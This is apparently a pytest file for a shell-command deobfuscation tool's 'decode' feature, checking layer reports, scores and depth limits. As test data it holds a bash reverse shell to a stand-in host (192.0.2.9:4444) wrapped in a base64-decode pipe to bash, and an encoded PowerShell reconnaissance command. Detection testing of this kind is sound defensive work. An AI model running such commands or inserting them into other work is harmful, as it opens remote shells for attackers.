"""`shellwatch decode`: layers for the analyst, as text or JSON, from an argument or standard input."""

from __future__ import annotations

import base64
import json

from typer.testing import CliRunner

from shellwatch.cli import app

runner = CliRunner()
PAYLOAD = "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"


def test_json_lists_each_layer_and_the_final_text() -> None:
    line = f"echo {base64.b64encode(PAYLOAD.encode()).decode()} | base64 -d | bash"
    result = runner.invoke(app, ["decode", line, "--json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["original"] == line
    assert report["text"] == PAYLOAD
    assert [layer["technique"] for layer in report["layers"]] == ["bash-piped-decode"]
    assert report["obfuscation"]["score"] >= 35
    assert report["stopped"] is None


def test_standard_input_and_the_text_report() -> None:
    encoded = base64.b64encode("whoami /all".encode("utf-16-le")).decode()
    result = runner.invoke(
        app, ["decode", "-", "--shell", "powershell"], input=f"powershell -enc {encoded}\n"
    )
    assert result.exit_code == 0, result.output
    assert "powershell-encodedcommand" in result.stdout
    assert "whoami /all" in result.stdout
    assert "obfuscation score" in result.stdout


def test_a_plain_command_has_no_layer() -> None:
    result = runner.invoke(app, ["decode", "ls -la /tmp", "--json"])
    assert result.exit_code == 0
    report = json.loads(result.stdout)
    assert report["layers"] == [] and report["text"] == "ls -la /tmp"


def test_limits_are_reported() -> None:
    nested = "id"
    for _ in range(6):
        nested = f"echo {base64.b64encode(nested.encode()).decode()} | base64 -d | sh"
    result = runner.invoke(app, ["decode", nested, "--json", "--max-depth", "3"])
    report = json.loads(result.stdout)
    assert len(report["layers"]) == 3
    assert report["stopped"] == "depth limit (3 layers)"
